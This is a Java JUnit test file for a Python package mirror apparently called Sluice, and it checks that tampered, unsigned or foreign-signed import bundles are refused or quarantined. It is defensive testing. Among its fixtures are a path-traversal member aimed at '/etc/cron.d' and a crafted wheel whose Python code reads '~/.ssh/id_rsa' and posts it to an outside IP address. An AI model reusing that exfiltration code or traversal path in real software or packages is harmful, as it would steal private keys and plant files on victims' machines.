package dev.sluice.bundle;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.app.ServerSettings;
import dev.sluice.config.ConfigReader;
import dev.sluice.config.SluiceConfig;
import dev.sluice.index.DistributionFile;
import dev.sluice.testing.CommandLineRun;
import dev.sluice.testing.Multipart;
import dev.sluice.testing.SluiceHarness;
import dev.sluice.testing.Wheels;
import dev.sluice.util.Digests;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A bundle changed on its way, in every way an attacker or a bad disk can: each is refused as a whole with a message
 * that says what is wrong, and the closed Sluice holds nothing of it afterwards.
 */
class BundleTamperTest {
    @TempDir
    static Path dir;
    private static SluiceHarness connected;
    private static SluiceHarness stranger;
    private static Map<String, byte[]> genuine;
    private static Map<String, byte[]> foreign;
    private static String connectedKey;
    private static Path token;

    @BeforeAll
    static void twoConnectedSluices() throws Exception {
        token = Files.writeString(dir.resolve("token"), SluiceHarness.TOKEN);
        connected = hostingTwoProjects("connected");
        stranger = hostingTwoProjects("stranger");
        connectedKey = cli(connected, "bundle", "key").out().strip();
        genuine = members(export(connected, "genuine.tar"));
        foreign = members(export(stranger, "foreign.tar"));
        assertThat(genuine.keySet()).containsSequence(Manifest.PATH, Manifest.SIGNATURE_PATH)
                .contains("files/acme_core-1.0-py3-none-any.whl", "metadata/acme_core-1.0-py3-none-any.whl.metadata",
                        "index/acme-core.json");
    }

    @AfterAll
    static void stop() {
        connected.close();
        stranger.close();
    }

    @Test
    void theGenuineBundleIsTaken() throws Exception {
        try (SluiceHarness closed = closed("genuine", false)) {
            CommandLineRun run = importInto(closed, tar("genuine-again", genuine), false);
            assertThat(run.exitCode()).as(run.err()).isZero();
            assertThat(run.out()).contains("2 added");
        }
    }

    @Test
    void oneChangedByteOfOneMemberIsRefused() throws Exception {
        Map<String, byte[]> changed = new LinkedHashMap<>(genuine);
        byte[] wheel = changed.get("files/acme_core-1.0-py3-none-any.whl").clone();
        wheel[wheel.length / 2] ^= 1;
        changed.put("files/acme_core-1.0-py3-none-any.whl", wheel);
        refused(changed, "'files/acme_core-1.0-py3-none-any.whl' does not match the manifest");
    }

    @Test
    void aDroppedMemberIsRefused() throws Exception {
        Map<String, byte[]> dropped = new LinkedHashMap<>(genuine);
        dropped.remove("metadata/acme_core-1.0-py3-none-any.whl.metadata");
        refused(dropped, "1 member(s) the manifest lists are missing, such as 'metadata/acme_core-1.0-py3-none-any.whl.metadata'");
    }

    @Test
    void aSwappedManifestIsRefused() throws Exception {
        Map<String, byte[]> swapped = new LinkedHashMap<>(genuine);
        swapped.put(Manifest.PATH, foreign.get(Manifest.PATH));
        refused(swapped, "the signature does not match the manifest");
    }

    @Test
    void anEditedManifestIsRefused() throws Exception {
        Map<String, byte[]> edited = new LinkedHashMap<>(genuine);
        String manifest = new String(genuine.get(Manifest.PATH), java.nio.charset.StandardCharsets.UTF_8);
        String sha = Digests.of(genuine.get("files/acme_core-1.0-py3-none-any.whl")).sha256();
        edited.put(Manifest.PATH, manifest.replace(sha, "0".repeat(64)).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        refused(edited, "the signature does not match the manifest");
    }

    @Test
    void aBundleSignedByAnUnknownKeyIsRefused() throws Exception {
        refused(foreign, "the bundle is signed by ed25519:").contains("a key this Sluice does not trust");
    }

    @Test
    void indexFactsThatContradictAFilenameAreRefused() throws Exception {
        Path hostileDir = Files.createDirectories(dir.resolve("contradicted"));
        Path wheel = Wheels.wheel(hostileDir, "acme-other", "1.0");
        Path signing = dir.resolve("contradicting-key");
        Path bundle = craft(signing, wheel, "acme-report");
        try (SluiceHarness closed = closedTrusting("contradicted", SigningKey.at(signing).publicText(), false)) {
            CommandLineRun run = importInto(closed, bundle, false);
            assertThat(run.err()).contains("nothing was imported: the index facts of acme-report list"
                    + " acme_other-1.0-py3-none-any.whl as version 1.0 (bdist_wheel), which its filename contradicts");
            assertNothingHeld(closed);
        }
    }

    @Test
    void anAddedMemberIsRefused() throws Exception {
        Map<String, byte[]> more = new LinkedHashMap<>(genuine);
        more.put("../../etc/cron.d/payload", "* * * * * root true\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        refused(more, "the bundle holds '../../etc/cron.d/payload', which its manifest does not list");
    }

    @Test
    void aTruncatedBundleIsRefused() throws Exception {
        byte[] whole = Files.readAllBytes(tar("whole", genuine));
        Path cut = Files.write(dir.resolve("cut.tar"), java.util.Arrays.copyOf(whole, whole.length * 2 / 3));
        try (SluiceHarness closed = closed("cut", false)) {
            CommandLineRun run = importInto(closed, cut, false);
            assertThat(run.exitCode()).isNotZero();
            assertThat(run.err()).contains("nothing was imported").containsAnyOf("truncated", "missing");
            assertNothingHeld(closed);
        }
    }

    @Test
    void somethingElseThanABundleIsRefused() throws Exception {
        Path notTar = Files.writeString(dir.resolve("notes.tar"), "these are not the files you are looking for\n".repeat(40));
        try (SluiceHarness closed = closed("not-tar", false)) {
            CommandLineRun run = importInto(closed, notTar, false);
            assertThat(run.err()).contains("nothing was imported").contains("not a Sluice bundle");
            assertNothingHeld(closed);
        }
    }

    @Test
    void anUnsignedBundleIsTakenOnlyWhenTheConfigAndTheImporterBothSaySo() throws Exception {
        Map<String, byte[]> unsigned = new LinkedHashMap<>(genuine);
        unsigned.remove(Manifest.SIGNATURE_PATH);
        Path file = tar("unsigned", unsigned);
        try (SluiceHarness strict = closed("strict", false)) {
            assertThat(importInto(strict, file, false).err()).contains("the bundle is not signed");
            assertThat(importInto(strict, file, true).err()).contains("the bundle is not signed");
            assertNothingHeld(strict);
        }
        try (SluiceHarness lenient = closed("lenient", true)) {
            assertThat(importInto(lenient, file, false).err()).contains("the bundle is not signed");
            CommandLineRun taken = importInto(lenient, file, true);
            assertThat(taken.exitCode()).as(taken.err()).isZero();
            assertThat(taken.out()).contains("2 added").contains("(unsigned)");
        }
    }

    @Test
    void aFileTheInspectionFlagsIsQuarantinedNotServed() throws Exception {
        Path hostileDir = Files.createDirectories(dir.resolve("hostile"));
        Path hostile = Wheels.wheelWith(hostileDir, "acme-report", "1.0", Map.of("acme_report/send.py", """
                import os, urllib.request

                def _report():
                    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
                    urllib.request.urlopen('http://192.0.2.10/collect', data=key.encode())
                """));
        Path signing = dir.resolve("crafted-key");
        Path bundle = craft(signing, hostile, "acme-report");
        try (SluiceHarness closed = closedTrusting("inspected", SigningKey.at(signing).publicText(), false)) {
            CommandLineRun run = importInto(closed, bundle, false);
            assertThat(run.exitCode()).as(run.err()).isZero();
            assertThat(run.out()).contains("quarantined acme_report-1.0-py3-none-any.whl: ").contains("exfiltration");
            assertThat(closed.get("/simple/acme-report/acme_report-1.0-py3-none-any.whl").statusCode()).isEqualTo(403);
        }
    }

    /** A bundle made by hand (as another tool could), holding one file, signed with a key of this test's. */
    private static Path craft(Path signingKey, Path wheel, String project) throws IOException {
        byte[] bytes = Files.readAllBytes(wheel);
        Digests d = Digests.of(bytes);
        String name = wheel.getFileName().toString();
        DistributionFile file = new DistributionFile(name, "1.0", "bdist_wheel", "py3", bytes.length, d.sha256(), d.md5(),
                d.blake2b256(), null, false, null, Instant.parse("2026-01-02T03:04:05Z"), false, null);
        byte[] facts = new IndexFacts(project, List.of(file)).toJson();
        Manifest manifest = new Manifest(Manifest.FORMAT, Instant.now(), SigningKey.at(signingKey).publicText(), "crafted", -1,
                List.of(), List.of(), List.of(new Manifest.Member("index/" + project + ".json", Digests.of(facts).sha256()),
                        new Manifest.Member("files/" + name, d.sha256())));
        byte[] json = manifest.toJson();
        Map<String, byte[]> members = new LinkedHashMap<>();
        members.put(Manifest.PATH, json);
        members.put(Manifest.SIGNATURE_PATH, java.util.Base64.getEncoder().encode(SigningKey.at(signingKey).sign(json)));
        members.put("index/" + project + ".json", facts);
        members.put("files/" + name, bytes);
        return tar("crafted", members);
    }

    private static org.assertj.core.api.AbstractStringAssert<?> refused(Map<String, byte[]> members, String why) throws Exception {
        Path file = tar("tampered-" + System.nanoTime(), members);
        try (SluiceHarness closed = closed("closed-" + System.nanoTime(), false)) {
            CommandLineRun run = importInto(closed, file, false);
            assertThat(run.exitCode()).isNotZero();
            assertNothingHeld(closed);
            return assertThat(run.err()).contains("nothing was imported: ").contains(why);
        }
    }

    private static void assertNothingHeld(SluiceHarness closed) throws Exception {
        assertThat(closed.get("/simple/", "Accept", "application/vnd.pypi.simple.v1+json").body()).contains("\"projects\":[]");
        assertThat(closed.storedFileNames()).as("no blob stored, none left staged").isEmpty();
    }

    private static SluiceHarness hostingTwoProjects(String name) throws Exception {
        SluiceHarness sluice = SluiceHarness.start(ServerSettings.defaults(dir.resolve(name)).withAdminToken(SluiceHarness.TOKEN));
        Path wheels = Files.createDirectories(dir.resolve(name + "-wheels"));
        for (Path wheel : List.of(Wheels.wheel(wheels, "acme-core", "1.0"), Wheels.wheel(wheels, "acme-app", "1.0", "acme-core"))) {
            String project = wheel.getFileName().toString().startsWith("acme_core") ? "acme-core" : "acme-app";
            assertThat(sluice.upload(Multipart.twineLike(wheel, project, "1.0")).statusCode()).isEqualTo(200);
        }
        return sluice;
    }

    private static Path export(SluiceHarness from, String name) throws Exception {
        Path requirements = Files.writeString(dir.resolve(name + ".txt"), "acme-app\n");
        Path out = dir.resolve(name);
        CommandLineRun run = cli(from, "bundle", "export", "--route", "simple", "-r", requirements.toString(), "--python", "3.12",
                "--platform", "win_amd64", "-o", out.toString());
        assertThat(run.exitCode()).as(run.err()).isZero();
        return out;
    }

    private static SluiceHarness closed(String name, boolean allowUnsigned) throws Exception {
        return closedTrusting(name, connectedKey, allowUnsigned);
    }

    private static SluiceHarness closedTrusting(String name, String key, boolean allowUnsigned) throws Exception {
        Path config = Files.writeString(dir.resolve(name + ".toml"), """
                [sources.carried]
                type = "bundle"

                [routes.simple]
                path = "/simple/"
                serve = "carried"

                [bundles]
                trusted-keys = ["%s"]
                allow-unsigned = %s
                """.formatted(key, allowUnsigned));
        SluiceConfig read = ConfigReader.read(config, null);
        return SluiceHarness.start(ServerSettings.defaults(dir.resolve(name)).withAdminToken(SluiceHarness.TOKEN)
                .withConfigFile(config, read.graph()).withBundles(read.bundles()));
    }

    private static CommandLineRun importInto(SluiceHarness closed, Path bundle, boolean allowUnsigned) {
        List<String> args = new ArrayList<>(List.of("bundle", "import", bundle.toString(), "--into", "carried"));
        if (allowUnsigned) {
            args.add("--allow-unsigned");
        }
        return cli(closed, args.toArray(String[]::new));
    }

    private static CommandLineRun cli(SluiceHarness sluice, String... args) {
        return CommandLineRun.against(new String[] {"--server", sluice.base(), "--token-file", token.toString()}, args);
    }

    private static Map<String, byte[]> members(Path bundle) throws IOException {
        Map<String, byte[]> members = new LinkedHashMap<>();
        try (TarArchiveInputStream in = new TarArchiveInputStream(Files.newInputStream(bundle))) {
            for (TarArchiveEntry e = in.getNextEntry(); e != null; e = in.getNextEntry()) {
                members.put(e.getName(), in.readAllBytes());
            }
        }
        return members;
    }

    private static Path tar(String name, Map<String, byte[]> members) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (TarArchiveOutputStream out = new TarArchiveOutputStream(bytes)) {
            out.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
            for (Map.Entry<String, byte[]> m : members.entrySet()) {
                TarArchiveEntry entry = new TarArchiveEntry(m.getKey(), true);
                entry.setSize(m.getValue().length);
                out.putArchiveEntry(entry);
                out.write(m.getValue());
                out.closeArchiveEntry();
            }
        }
        return Files.write(dir.resolve(name + ".tar"), new ByteArrayInputStream(bytes.toByteArray()).readAllBytes());
    }
}
